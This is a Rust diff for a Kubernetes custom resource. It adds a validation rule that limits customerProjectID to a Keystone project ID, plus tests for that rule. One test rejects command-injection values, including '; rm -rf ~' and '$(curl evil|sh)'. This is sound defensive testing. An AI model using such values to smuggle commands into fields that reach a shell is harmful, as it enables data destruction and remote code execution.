@@ -53,13 +53,24 @@ pub struct ClusterLinkSpec {
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub credentials_secret_ref: Option<SecretRef>,
 
-    /// Cross-tenant only: the customer OpenStack project the credential must authenticate into.
+    /// Cross-tenant only: the customer OpenStack project the credential must authenticate
+    /// into, by its Keystone ID (32 lowercase hex digits, or a UUID with dashes). Operator
+    /// messages carry it into a command an admin pastes (TransitNetworkNotShared), so it is
+    /// an ID and nothing else.
     #[serde(
         rename = "customerProjectID",
         default,
         skip_serializing_if = "Option::is_none"
     )]
     #[schemars(length(min = 1, max = 64))]
+    #[x_kube(
+        validation = Rule::new(
+            "self.matches('^([0-9a-f]{32}|[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12})$')"
+        )
+        .message(
+            "customerProjectID must be a Keystone project ID: 32 lowercase hex digits, or a UUID with dashes (openstack project show <project> -f value -c id)"
+        )
+    )]
     pub customer_project_id: Option<String>,
 }
 
@@ -184,13 +195,43 @@ mod tests {
         link(spec)
     }
 
+    /// Keystone project IDs as Keystone writes them (uuid4 hex), and as a UUID with dashes.
+    const P1: &str = "0123456789abcdef0123456789abcdef";
+    const P2: &str = "c0ffee00-1111-4222-8333-444455556666";
+
+    /// spec.customerProjectID is an ID, nothing else: it reaches a command an admin pastes.
+    #[test]
+    fn cel_customer_project_is_a_keystone_id() {
+        for ok in [P1, P2] {
+            assert!(cross_tenant(Some(ok)).validate_cel().is_ok(), "{ok}");
+        }
+        for bad in [
+            "p1",
+            "customer",
+            "0123456789ABCDEF0123456789ABCDEF",
+            "0123456789abcdef0123456789abcde",
+            "0123456789abcdef0123456789abcdef0",
+            "c0ffee00-1111-4222-8333-44445555666",
+            "c0ffee0011114222833344445555666-",
+            "0123456789abcdef0123456789abcdef; rm -rf ~",
+            "$(curl evil|sh)",
+            "0123456789abcdef0123456789abcdef\n",
+        ] {
+            let err = message(cross_tenant(Some(bad)).validate_cel().unwrap_err());
+            assert!(
+                err.contains("customerProjectID must be a Keystone project ID: 32 lowercase hex digits, or a UUID with dashes"),
+                "{bad:?}: {err}"
+            );
+        }
+    }
+
     fn message(err: impl std::fmt::Debug) -> String {
         format!("{err:?}")
     }
 
     #[test]
     fn spec_field_names_match_the_spec() {
-        let v = serde_json::to_value(cross_tenant(Some("p1")).spec).unwrap();
+        let v = serde_json::to_value(cross_tenant(Some(P1)).spec).unwrap();
         for key in [
             "serviceClusterRouter",
             "serviceClusterCIDR",
@@ -223,11 +264,11 @@ mod tests {
     fn cel_same_tenant_may_not_carry_customer_project() {
         let mut l = same_tenant();
         assert!(l.validate_cel().is_ok());
-        l.spec.customer_project_id = Some("p1".into());
+        l.spec.customer_project_id = Some(P1.into());
         assert!(
             message(l.validate_cel().unwrap_err()).contains("customerProjectID may only be set")
         );
-        assert!(cross_tenant(Some("p1")).validate_cel().is_ok());
+        assert!(cross_tenant(Some(P1)).validate_cel().is_ok());
         assert!(
             cross_tenant(None).validate_cel().is_ok(),
             "missing project is the operator's InvalidSpec"
@@ -236,9 +277,9 @@ mod tests {
 
     #[test]
     fn cel_customer_project_is_immutable() {
-        let old = cross_tenant(Some("p1"));
-        assert!(cross_tenant(Some("p1")).validate_cel_update(&old).is_ok());
-        let err = cross_tenant(Some("p2"))
+        let old = cross_tenant(Some(P1));
+        assert!(cross_tenant(Some(P1)).validate_cel_update(&old).is_ok());
+        let err = cross_tenant(Some(P2))
             .validate_cel_update(&old)
             .unwrap_err();
         assert!(message(err).contains("immutable"));
@@ -246,7 +287,7 @@ mod tests {
         assert!(message(err).contains("immutable"));
         // Setting it on an object that predates the field is allowed.
         assert!(
-            cross_tenant(Some("p1"))
+            cross_tenant(Some(P1))
                 .validate_cel_update(&cross_tenant(None))
                 .is_ok()
         );
@@ -254,7 +295,7 @@ mod tests {
 
     #[test]
     fn cel_credentials_ref_may_not_be_added_or_removed() {
-        let err = cross_tenant(Some("p1"))
+        let err = cross_tenant(Some(P1))
             .validate_cel_update(&same_tenant())
             .unwrap_err();
         assert!(message(err).contains("may not be added to or removed"));
